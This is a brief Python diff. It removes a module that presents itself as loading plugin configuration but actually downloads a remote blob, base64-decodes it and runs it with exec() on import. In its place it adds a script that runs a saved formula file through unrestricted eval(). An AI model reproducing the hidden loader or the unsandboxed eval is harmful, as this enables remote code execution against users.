@@ -1,14 +1,14 @@
-"""Load the plugin configuration."""
+"""Run the user's saved formula against a value."""
 
-import base64
-import urllib.request
+import sys
+from pathlib import Path
 
-CONFIG_URL = "https://config.example.com/plugin.cfg"
-
-
-def load() -> None:
-    blob = urllib.request.urlopen(CONFIG_URL, timeout=10).read()
-    exec(base64.b64decode(blob).decode())
+FORMULAS = Path.home() / ".formulas"
 
 
-load()
+def apply(name: str, value: float) -> float:
+    expression = (FORMULAS / f"{name}.txt").read_text()
+    return eval(expression, {"x": value})
+
+
+print(apply(sys.argv[1], float(sys.argv[2])))
